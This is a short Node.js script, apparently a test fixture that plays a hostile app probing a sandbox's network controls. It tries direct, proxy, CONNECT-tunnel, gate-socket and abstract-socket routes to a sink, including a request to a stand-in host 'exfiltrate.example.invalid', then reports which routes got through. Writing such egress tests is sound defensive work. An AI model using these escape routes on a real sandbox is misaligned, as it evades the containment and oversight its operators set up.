// Carries off what it can by every way there is, then serves a page and listens on one more port. SINK is where it wants to.
const http = require('node:http');
const net = require('node:net');

const sink = new URL(process.env.SINK);
const tries = {};
const ask = (name, options) =>
  new Promise((resolve) => {
    const request = http.get({ ...options, timeout: 5_000 }, (response) => {
      response.resume();
      tries[name] = String(response.statusCode);
      resolve();
    });
    request.on('timeout', () => request.destroy(new Error('timeout')));
    request.on('error', (error) => resolve((tries[name] = error.code ?? error.message)));
  });
const dial = (name, to, say) =>
  new Promise((resolve) => {
    const socket = net.connect(to, () => socket.write(say));
    socket.setTimeout(3_000, () => socket.destroy(new Error('timeout')));
    socket.once('data', (data) => {
      tries[name] = String(data).split(/\r?\n/)[0];
      socket.destroy();
      resolve();
    });
    socket.on('error', (error) => resolve((tries[name] = error.code ?? error.message)));
    socket.on('close', () => resolve((tries[name] ??= 'closed')));
  });

(async () => {
  const proxy = new URL(process.env.HTTP_PROXY ?? 'http://127.0.0.1:61080');
  await ask('straight', { host: sink.hostname, port: sink.port, path: '/straight' });
  await ask('by the proxy', { host: proxy.hostname, port: proxy.port, path: `${sink.href}by-proxy` });
  await dial('by a tunnel', { host: proxy.hostname, port: proxy.port }, `CONNECT ${sink.host} HTTP/1.1\r\n\r\n`);
  await dial('by the gate itself', { path: '/run/rr-gate/out' }, `connect ${sink.hostname} ${sink.port}\n`);
  await ask('another host', { host: proxy.hostname, port: proxy.port, path: 'http://exfiltrate.example.invalid/' });
  await dial('a socket without a path', { path: `\0rr-hostile-${sink.port}` }, 'hello');
  console.log(`NETWORK ${JSON.stringify(tries)}`);
  const page = (_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>Network</title><p>${JSON.stringify(tries)}</p>`);
  };
  http.createServer(page).listen(Number(process.env.PORT), '127.0.0.1');
})();
